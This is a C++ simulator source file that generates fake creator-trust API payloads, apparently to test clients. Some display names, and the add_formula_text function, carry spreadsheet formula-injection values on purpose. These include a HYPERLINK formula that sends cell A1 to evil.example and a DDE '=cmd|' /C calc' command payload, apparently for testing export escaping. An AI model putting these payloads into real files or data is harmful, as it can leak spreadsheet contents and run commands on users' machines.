#include "sim/payloads.hpp"

#include <algorithm>
#include <array>
#include <cmath>

#include "sim/api_time.hpp"
#include "sim/rng.hpp"
#include "util/text.hpp"

namespace sim {

namespace {

constexpr std::array<const char*, 7> k_agent_names = {"content_risk",     "brand_safety",    "sentiment",
                                                      "authenticity",     "audience_quality", "community_trust",
                                                      "roi_prediction"};

constexpr std::array<const char*, 6> k_knockout_kinds = {"undisclosed_sponsorship", "fake_engagement",
                                                         "hate_speech",             "brand_conflict",
                                                         "misinformation",          "gambling_promotion"};

struct RiskTemplate {
  const char* category;
  const char* summary;
};

constexpr std::array<RiskTemplate, 8> k_risk_templates = {{
    {"sponsored_disclosure", "Recent sponsored posts lack a clear ad label."},
    {"audience_authenticity", "A share of recent followers shows bot-like patterns."},
    {"controversy", "Coverage of a recent controversy is still circulating."},
    {"language", "Frequent profanity in recent videos."},
    {"engagement_spike", "Engagement jumped without a matching reach increase."},
    {"brand_conflict", "Recent partnerships with competing brands."},
    {"misinformation", "Shared claims that fact-checkers disputed."},
    {"minor_audience", "A large part of the audience appears to be under 18."},
}};

double one_decimal(double value) {
  return std::round(std::clamp(value, 0.0, 100.0) * 10.0) / 10.0;
}

const char* tier_for(int score) {
  if (score >= 80) {
    return "Excellent";
  }
  if (score >= 65) {
    return "Good";
  }
  if (score >= 50) {
    return "Fair";
  }
  return "Poor";
}

// "alix_earle.official" -> "Alix Earle Official": what a display name usually looks like.
std::string title_from_handle(std::string_view handle) {
  std::string out;
  bool word_start = true;
  for (char c : handle) {
    if (c == '_' || c == '.' || c == '-') {
      if (!out.empty() && out.back() != ' ') {
        out += ' ';
      }
      word_start = true;
      continue;
    }
    if (word_start && c >= 'a' && c <= 'z') {
      c = static_cast<char>(c - 'a' + 'A');
    }
    out += c;
    word_start = false;
  }
  while (!out.empty() && out.back() == ' ') {
    out.pop_back();
  }
  return out.empty() ? std::string(handle) : out;
}

std::string display_name_for(std::uint64_t hash, std::string_view handle) {
  const std::string name = title_from_handle(handle);
  // About 1 in 15 creators gets a name a spreadsheet would run as a formula.
  if ((hash >> 16) % 15 != 0) {
    return name;
  }
  switch ((hash >> 24) % 5) {
    case 0: return "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"" + name + "\")";
    case 1: return "@" + util::to_lower(handle) + "fanpage";
    case 2: return "-the real " + name + "-";
    case 3: return "+" + name + " official";
    default: return "=1+2";
  }
}

}  // namespace

void Includes::merge(const Includes& other) {
  narrative = narrative || other.narrative;
  velocity = velocity || other.velocity;
  risk_flags = risk_flags || other.risk_flags;
  detailed_analysis = detailed_analysis || other.detailed_analysis;
}

Includes parse_includes(std::string_view comma_list) {
  Includes includes;
  for (const std::string& part : util::split(comma_list, ',')) {
    const std::string name = util::to_lower(util::trim(part));
    if (name == "narrative") {
      includes.narrative = true;
    } else if (name == "velocity") {
      includes.velocity = true;
    } else if (name == "risk_flags") {
      includes.risk_flags = true;
    } else if (name == "detailed_analysis") {
      includes.detailed_analysis = true;
    }
  }
  return includes;
}

std::string CreatorId::key() const {
  return std::string(core::platform_name(platform)) + ":" + lower_handle;
}

CreatorId make_creator_id(core::Platform platform, std::string_view handle) {
  return CreatorId{platform, util::to_lower(handle)};
}

std::optional<std::string> handle_problem(std::string_view handle) {
  if (handle.empty()) {
    return "Handle is empty.";
  }
  std::size_t code_points = 0;
  for (char c : handle) {
    const auto byte = static_cast<unsigned char>(c);
    if ((byte & 0xC0) != 0x80) {
      ++code_points;
    }
    if (c == ' ' || c == '/' || byte < 0x20 || byte == 0x7f) {
      return "Handle contains a space, '/' or a control character.";
    }
  }
  if (code_points > 100) {
    return "Handle is longer than 100 characters.";
  }
  if (!util::is_valid_utf8(handle)) {
    return "Handle is not valid UTF-8.";
  }
  if (handle.front() == '@') {
    return "Handle must not start with '@'.";
  }
  return std::nullopt;
}

Credits fresh_price(core::Platform platform) {
  return core::default_fresh_price(platform);
}

bool is_doomed(const CreatorId& creator) {
  return creator.lower_handle.starts_with("missing_") || creator.lower_handle.starts_with("ghost_");
}

bool is_precached(const CreatorId& creator, int cached_percent) {
  if (is_doomed(creator)) {
    return false;
  }
  return static_cast<int>(stable_hash(creator.key()) % 100) < cached_percent;
}

util::TimePoint precached_scored_at(const CreatorId& creator) {
  Rng rng(stable_hash(creator.key()) ^ 0x5ca1ab1eULL);
  const auto age_seconds = rng.between(1 * 86400, 29 * 86400);
  return util::TimePoint{} - util::Duration(age_seconds * 1000);
}

std::string public_profile_url(core::Platform platform, std::string_view handle) {
  return "https://creatorscore.io/profile/" + std::string(core::platform_name(platform)) + "/" +
         util::percent_encode(handle);
}

void add_formula_text(Json& payload) {
  payload["score"] = "=1+1";
  payload["followers"] = "1e999";
  payload["tier"] = "+Good";
  payload["display_name"] = "=HYPERLINK(\"http://evil.invalid\",\"click\")";
  payload["last_scored_at"] = "@SUM(A1)";
  payload["public_profile_url"] = "-2+3";
  payload["knockouts"] = Json::array({"=cmd|' /C calc'!A0"});
  Json& agents = payload["agents"];
  agents["content_risk"] = "=1+1";
  agents["brand_safety"] = "-1";
  agents["sentiment"] = "\t=2";
  if (payload.contains("narrative")) {
    payload["narrative"] = "=narrative";
  }
}

Json creator_payload(const CreatorId& creator, std::string_view handle, util::TimePoint last_scored_at,
                     const Includes& includes) {
  const std::uint64_t hash = stable_hash(creator.key());
  // One stream per creator, so adding an include never changes the base fields.
  Rng rng(hash);

  // Between 1,000 and ~500 million followers, log-uniform: most creators are small.
  const auto followers = static_cast<std::int64_t>(std::pow(10.0, 3.0 + rng.unit() * 5.7));
  // The mean of two uniform draws clusters scores in the 50s-70s, as real rosters do.
  const auto score = static_cast<int>(std::clamp<std::int64_t>((rng.between(5, 100) + rng.between(25, 100)) / 2, 1, 100));

  Json agents = Json::object();
  std::array<double, k_agent_names.size()> agent_values{};
  for (std::size_t i = 0; i < k_agent_names.size(); ++i) {
    const double bias = std::string_view(k_agent_names[i]) == "roi_prediction" ? -12.0 : 0.0;
    agent_values[i] = one_decimal(score + bias + static_cast<double>(rng.between(-150, 150)) / 10.0);
    agents[k_agent_names[i]] = agent_values[i];
  }

  Json knockouts = Json::array();
  if (rng.unit() < 0.1) {
    const auto first = rng.between(0, k_knockout_kinds.size() - 1);
    knockouts.push_back(k_knockout_kinds[static_cast<std::size_t>(first)]);
    if (rng.unit() < 0.3) {
      knockouts.push_back(k_knockout_kinds[static_cast<std::size_t>((first + 1) % k_knockout_kinds.size())]);
    }
  }

  Json payload = Json::object();
  payload["platform"] = core::platform_name(creator.platform);
  payload["handle"] = handle;
  payload["display_name"] = display_name_for(hash, handle);
  payload["followers"] = followers;
  payload["score"] = score;
  payload["tier"] = tier_for(score);
  payload["agents"] = agents;
  payload["knockouts"] = knockouts;
  payload["last_scored_at"] = format_api_time(last_scored_at);
  payload["public_profile_url"] = public_profile_url(creator.platform, handle);

  const auto strongest = std::max_element(agent_values.begin(), agent_values.end()) - agent_values.begin();
  const auto weakest = std::min_element(agent_values.begin(), agent_values.end()) - agent_values.begin();
  if (includes.narrative) {
    std::string text = std::string(tier_for(score)) + " overall trust (score " + std::to_string(score) +
                       "); the strongest signal is " + k_agent_names[static_cast<std::size_t>(strongest)] +
                       " and the weakest is " + k_agent_names[static_cast<std::size_t>(weakest)] + ".";
    if (!knockouts.empty()) {
      text += " Knockout findings need review before any partnership.";
    }
    payload["narrative"] = text;
  }
  // Drawn after the base fields from the same stream in a fixed order, whatever was asked for, so
  // a field's value does not depend on which other fields were included.
  Json velocity = Json::object();
  double delta = 0.0;
  for (const char* window : {"30d", "60d", "90d"}) {
    delta += static_cast<double>(rng.between(-40, 40)) / 10.0;
    velocity[window] = std::round(delta * 10.0) / 10.0;
  }
  Json risk_flags = Json::array();
  for (const auto& knockout : knockouts) {
    risk_flags.push_back(Json{{"severity", "critical"},
                              {"category", knockout.get<std::string>()},
                              {"summary", "Knockout finding: " + knockout.get<std::string>() + "."}});
  }
  const auto extra_flags = rng.between(0, score >= 80 ? 1 : 4);
  for (std::int64_t i = 0; i < extra_flags && risk_flags.size() < 10; ++i) {
    const RiskTemplate& flag = k_risk_templates[static_cast<std::size_t>(rng.between(0, k_risk_templates.size() - 1))];
    risk_flags.push_back(Json{{"severity", rng.unit() < 0.3 ? "high" : "medium"},
                              {"category", flag.category},
                              {"summary", flag.summary}});
  }
  Json analysis = Json::object();
  for (std::size_t i = 0; i < k_agent_names.size(); ++i) {
    analysis[k_agent_names[i]] = Json{{"score", agent_values[i]},
                                      {"confidence", static_cast<double>(rng.between(60, 99)) / 100.0},
                                      {"posts_analyzed", rng.between(20, 500)}};
  }
  if (includes.velocity) {
    payload["velocity"] = velocity;
  }
  if (includes.risk_flags) {
    payload["risk_flags"] = risk_flags;
  }
  if (includes.detailed_analysis) {
    payload["detailed_analysis"] = analysis;
  }
  return payload;
}

}  // namespace sim
